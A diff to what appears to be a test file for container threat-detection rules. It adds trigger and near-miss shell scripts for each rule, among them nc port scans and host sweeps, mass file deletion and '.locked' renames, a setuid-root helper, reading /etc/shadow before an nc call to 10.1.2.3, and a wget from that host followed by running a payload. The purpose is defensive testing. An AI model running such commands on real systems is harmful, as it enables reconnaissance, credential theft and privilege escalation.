@@ -33,9 +33,51 @@ LISTEN = ("python3 -c 'import socket;s=socket.socket();s.setsockopt(1,2,1);s.bin
           "c,_=s.accept();c.sendall(b\"x\");c.close()' & sleep 0.5; ")      # Debian image
 SEVENTY = " ".join(f"/tmp/f{i}" for i in range(70))                  # past 64 arguments
 
+LOOP = "for i in $(seq 1 {n}); do {cmd}; done; true"
+PORTS = LOOP.replace("{cmd}", "nc -w 1 127.0.0.1 $i < /dev/null")
+HOSTS = LOOP.replace("{cmd}", "nc -w 1 127.0.0.$i 6379 < /dev/null")
+LOGINS = LOOP.replace("{cmd}", "nc -w 1 127.0.0.1 22 < /dev/null")
+FILES = "mkdir -p /srv/data && cd /srv/data && for i in $(seq 1 120); do echo x > f$i; done; "
+RENAMES = FILES + LOOP.replace("{cmd}", "mv f$i f$i.locked")
+USER = "probe as 1000 "                  # the rest of the command as uid 1000
+REFUSED = LOOP.replace("{cmd}", USER + "/usr/local/bin/probe root /bin/true")
+
+
+def _setuid_probe(c):
+    """/usr/local/bin/rootprobe: the probe helper, setuid root (tests/helpers/probe.c)."""
+    import shutil
+    dst = os.path.join(c.rootfs, "usr/local/bin/rootprobe")
+    shutil.copy2(os.path.join(c.rootfs, "usr/local/bin/probe"), dst)
+    os.chown(dst, 0, 0)
+    os.chmod(dst, 0o4755)
+
+
 # rule -> (trigger script, near-miss script, setup run from the host before both)
 CASES = {
     "Vulnerability scanner run in a container": (COPY.format("nuclei"), COPY.format("nucleus"), None),
+    # rules over time, issue 18: the burst, and the same behaviour too slow or too small
+    "Port scan from a container": (PORTS.format(n=15), PORTS.format(n=3), None),
+    "Network sweep from a container": (HOSTS.format(n=26), HOSTS.format(n=5), None),
+    "Burst of discovery commands in a container": (
+        "/bin/id; /bin/uname -a; /bin/ps; /bin/mount; /bin/df; /bin/hostname",
+        "/bin/id -u; /bin/uname -m; /bin/hostname", None),
+    "Brute force against a login service": (LOGINS.format(n=22), LOGINS.format(n=5), None),
+    "Mass file deletion in a container": (FILES + "rm -f /srv/data/f*",
+                                          FILES + "rm -f /srv/data/f1", None),
+    "Mass file rename in a container": (RENAMES.format(n=60), RENAMES.format(n=3), None),
+    "Setuid-root program run by a user": (USER + "/usr/local/bin/rootprobe root /bin/true",
+                                          USER + "/usr/local/bin/probe touch /tmp/x; "
+                                          "/usr/local/bin/rootprobe root /bin/true",
+                                          _setuid_probe),
+    "Root gained through a setuid call": (USER + "/usr/local/bin/rootprobe root /bin/true",
+                                          "/usr/local/bin/probe root /bin/true", _setuid_probe),
+    "Repeated failed privilege changes": (REFUSED.format(n=6), REFUSED.format(n=1), None),
+    "Credential read then sent out": ("cat /etc/shadow > /dev/null; " + NC.format("10.1.2.3", 443),
+                                      "cat /etc/passwd > /dev/null; " + NC.format("10.1.2.3", 443),
+                                      None),
+    "Downloaded program run in a container": (
+        "wget -q -T 1 -O /tmp/x http://10.1.2.3/x; cp /bin/busybox /tmp/payload && /tmp/payload true",
+        WGET.format(1) + "; cp /bin/busybox /tmp/payload && /tmp/payload true", None),
     "Shell spawned by a web server": (
         "cp /usr/local/bin/probe /tmp/node && /tmp/node spawn /bin/sh -c 'echo hi'",
         "cp /usr/local/bin/probe /tmp/worker && /tmp/worker spawn /bin/sh -c 'echo hi'", None),
